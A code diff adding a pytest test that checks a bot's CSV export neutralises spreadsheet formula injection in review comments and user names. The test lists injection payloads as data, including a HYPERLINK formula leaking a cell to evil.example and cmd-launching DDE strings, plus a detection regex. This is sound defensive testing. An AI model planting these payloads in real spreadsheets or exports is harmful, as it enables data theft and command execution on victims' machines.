@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 from bot.services.export import (
     BOM,
@@ -102,3 +103,65 @@ def test_an_empty_period_has_headers_only(sessions: SessionFactory) -> None:
     assert (export.sessions, export.reviews) == (0, 0)
     assert rows(export.sessions_csv) == [] and rows(export.reviews_csv) == []
     assert export.sessions_csv.removeprefix(BOM).startswith(",".join(SESSION_COLUMNS))
+
+
+# A spreadsheet's formula injections, as OWASP's CSV-injection page describes them: at the
+# start of a cell, and after a separator, a quote or a line break that a lenient import (or a
+# locale that splits on `;` or tabs) may take as the start of a new cell.
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "+cmd|' /C notepad'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "fine;=cmd|' /C calc'!A0",
+    "a,=1+1",
+    "a\tb\t@SUM(1)",
+    'all good\n=HYPERLINK("http://evil.example")',
+    'quoted "=1+1" inside',
+    "ok; -1",
+)
+HARMLESS = ("Jean-Luc was great, thanks", "a; b", "2026-11-23", "C++ (and -O2)")
+# A cell is where a spreadsheet may see a formula: its start, or after a separator or break.
+FORMULA_AT = re.compile(r"(?:^|[,;\t\r\n\"']) *[=+\-@\t\r]")
+QUOTED_ROW = r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n'
+
+
+def test_formula_injections_anywhere_in_a_cell_are_inert(sessions: SessionFactory) -> None:
+    """Mallory writes spreadsheet formulas into every text of her reviews (and her name): each
+    comes back from the CSV as text a spreadsheet will not run, with what she typed kept, and
+    every data cell is quoted so that no separator inside it can start a new cell."""
+    texts = INJECTIONS + HARMLESS
+    with sessions.begin() as session:
+        zoe = new_mentor(session, "U0ZOE", "Zoë", "Europe/Oslo", 20, START)
+        mallory = new_user(session, "U0MAL", "@SUM(1+1)*cmd|' /C calc'!A0")
+        for number, comment in enumerate(texts):
+            booking = new_booking(
+                session, zoe, mallory, "approved", requested_at=START,
+                starts_at=START + number * HOUR, decided_at=START,
+            )  # fmt: skip
+            session.add(
+                Review(
+                    booking_id=booking, reviewer_id=mallory, connection_stars=2,
+                    connection_comment=comment, program_stars=3, program_comment=comment,
+                    feedback=comment, created_at=START + DAY + number * HOUR,
+                )
+            )  # fmt: skip
+    with sessions.begin() as session:
+        export = export_period(session, start=START, end=NOW)
+
+    table = rows(export.reviews_csv)
+    assert len(table) == len(texts)
+    for row, typed in zip(table, texts, strict=True):
+        for column in ("connection_comment", "program_comment", "feedback"):
+            cell = row[column]
+            if typed in HARMLESS:
+                assert cell == typed
+            else:
+                assert cell == "'" + typed, (column, cell)
+        assert row["reviewer_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    for cell in (cell for row in table for cell in row.values()):
+        assert cell.startswith("'") or not FORMULA_AT.search(cell), cell
+    body = export.reviews_csv.removeprefix(BOM).split("\r\n", 1)[1]
+    assert re.fullmatch(f"(?:{QUOTED_ROW})*", body), "every data cell is quoted"
